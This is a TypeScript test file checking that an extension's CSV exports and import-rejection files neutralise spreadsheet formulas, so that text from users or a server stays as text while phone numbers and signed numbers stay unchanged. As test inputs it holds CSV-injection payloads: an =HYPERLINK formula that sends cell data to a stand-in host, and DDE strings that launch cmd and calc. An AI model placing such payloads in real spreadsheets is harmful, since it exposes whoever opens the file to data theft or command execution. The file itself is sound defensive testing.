// Nothing a user's list or a server says becomes a formula in the user's Excel (issue 37, row 5): every
// CSV the extension writes (the customer export, the rejected rows of an import, the reconciliation
// export, the bulk check's results) passes its cells through src/domain/formulaGuard.ts. Phone numbers
// and signed numbers stay as they are. The import and the export run over real HTTP: against the
// sandbox, and against a hostile server whose 400 answer carries a formula as its error text.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createClient, createCustomersInBatches } from '../../../src/api';
import { parseCsv } from '../../../src/domain/csv';
import {
  exportCustomersCsv,
  importCustomersCsvChunks,
  mergeServerOutcome,
  writeRejectedCsv,
  type CustomerImportResult,
  type ServerOutcomeTexts,
} from '../../../src/domain/customerImport';
import { guardFormula, isFormulaLike } from '../../../src/domain/formulaGuard';
import { reconciliationCsvLines, type ExportLabels } from '../../../src/reconciliation/export';
import type { ReconciliationReport } from '../../../src/reconciliation/report';
import { replyJson, startLoopbackServer, type LoopbackServer } from '../../support/loopbackServer';
import { withSandbox } from '../../support/sandbox';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2;"Ayrıntı")';

test('formula starts are guarded; phone numbers, signed numbers and plain text are not', () => {
  const guarded = [HYPERLINK, '@SUM(A1:A9)', '+cmd|"/c calc"!A1', '-2+3+cmd|"/c calc"!A1', '=1+1', '\t=1+1', '\r=1+1', '+', '=', '-A1'];
  for (const v of guarded) {
    assert.equal(isFormulaLike(v), true, JSON.stringify(v));
    assert.equal(guardFormula(v), "'" + v);
  }
  const kept = ['+90 532 123 45 67', '+90 (212) 555-12-34', '-12,50', '-1.234,56', '+905321234567', '0212 555 12 34', 'Anadolu Gıda A.Ş.', 'info@ornek.com.tr', 'a=b', ''];
  for (const v of kept) assert.equal(guardFormula(v), v, JSON.stringify(v));
});

const texts: ServerOutcomeTexts = {
  rejectedWithoutMessage: (s) => `HTTP ${s}`,
  unknown: (k) => `unknown ${k}`,
  notSent: () => 'not sent',
};

const importText = (text: string) =>
  importCustomersCsvChunks((async function* () {
    yield text;
  })());

/** The import as the command runs it: local checks, POST /Customers in batches, the rejected file. */
async function importOver(baseUrl: string, key: string, csv: string): Promise<{ result: CustomerImportResult; rejectedCsv: string }> {
  const client = createClient({ baseUrl, getApiKey: async () => key, retry: { retries: 0 } });
  const result = await importText(csv);
  const report = await createCustomersInBatches(client.customers, result.accepted.map((a) => a.customer), { batchSize: 10 });
  const rejected = mergeServerOutcome(result, report, result.accepted, texts);
  return { result, rejectedCsv: writeRejectedCsv({ ...result, rejected }) };
}

/** A server that refuses every customer list with a 400 whose text is a formula. */
function hostileServer(description: string): Promise<LoopbackServer> {
  return startLoopbackServer((_req, res) => replyJson(res, 400, { Errors: [{ Code: 400, Description: description, Detail: '' }] }));
}

test("a server's =HYPERLINK error text reaches the rejected file's Reason cell as text, not a formula", async () => {
  const server = await hostileServer(HYPERLINK);
  try {
    const csv = 'Ünvan;VKN/TCKN;Telefon\r\nAnadolu Gıda A.Ş.;4540536920;+90 532 123 45 67\r\n';
    const { rejectedCsv } = await importOver(server.url, 'key', csv);
    const [header, row] = parseCsv(rejectedCsv).records.map((r) => r.cells);
    assert.deepEqual(header, ['Ünvan', 'VKN/TCKN', 'Telefon', 'Reason']);
    assert.equal(row[3], "'" + HYPERLINK, 'the server text, verbatim after the apostrophe');
    assert.equal(row[2], '+90 532 123 45 67', 'the phone reads as a phone');
  } finally {
    await server.close();
  }
});

test('against the sandbox: a hostile name in a refused row and in the customer export stays text', async () => {
  await withSandbox({ customers: 0 }, async (sb) => {
    const client = createClient({ baseUrl: sb.url, getApiKey: async () => sb.keys.full, retry: { retries: 0 } });
    // Stored first, so the import's second row is refused by the server (the tax number exists).
    await client.customers.create([{ Name: '@SUM(A1:A9)', TaxNumber: '4540536920', Phone: '+90 532 123 45 67', IsExport: false } as never]);
    const csv = `Ünvan;VKN/TCKN;Telefon\r\n${'-2+3+cmd|" /C calc"!A0'};1234567802;+90 212 555 12 34\r\n`;
    const { result, rejectedCsv } = await importOver(sb.url, sb.keys.full, csv.replace('1234567802', '4540536920'));
    assert.equal(result.accepted.length, 1, 'the row passed the local checks');
    const [, row] = parseCsv(rejectedCsv).records.map((r) => r.cells);
    assert.equal(row[0], `'-2+3+cmd|" /C calc"!A0`);
    assert.equal(row[2], '+90 212 555 12 34');
    assert.match(row[3], /exists/, "the sandbox's reason");

    const page = await client.customers.list({ Page: 1, PageSize: 10 });
    const exported = parseCsv([...exportCustomersCsv((page.Content ?? []).map((c) => ({ ...c, Name: c.Name ?? '', Phone: c.Phone ?? '' })) as never)].join('')).records.map((r) => r.cells);
    assert.equal(exported[1][1], "'@SUM(A1:A9)");
    assert.equal(exported[1][8], '+90 532 123 45 67');
  });
});

test('the reconciliation export guards names and registry titles', () => {
  const labels: ExportLabels = {
    header: ['Status', 'ID', 'Name', 'Tax number', 'PK', 'Title', 'Reason', 'Change', 'Previous'],
    status: { user: 'user', notUser: 'not user', invalid: 'invalid', unchecked: 'unchecked' },
    change: { newlyRegistered: 'new', aliasChanged: 'alias', deregistered: 'gone' },
    reason: () => '',
  };
  const report = {
    baseUrl: 'http://sandbox', takenAt: '2026-01-01T00:00:00.000Z', source: 'online', listRequests: 1, lookupRequests: 1, classifyMs: 0, totalCustomers: 1,
    users: [{ customerId: 1, name: HYPERLINK, taxNumber: '4540536920', status: 'user', pkAlias: 'urn:mail:defaultpk@x.com', title: '+SUM(1;2)' }],
    notUsers: [], invalid: [], unchecked: [],
  } as unknown as ReconciliationReport;
  const [, row] = parseCsv([...reconciliationCsvLines(report, labels)].join('')).records.map((r) => r.cells);
  assert.equal(row[2], "'" + HYPERLINK);
  assert.equal(row[5], "'+SUM(1;2)");
  assert.equal(row[3], '4540536920');
});
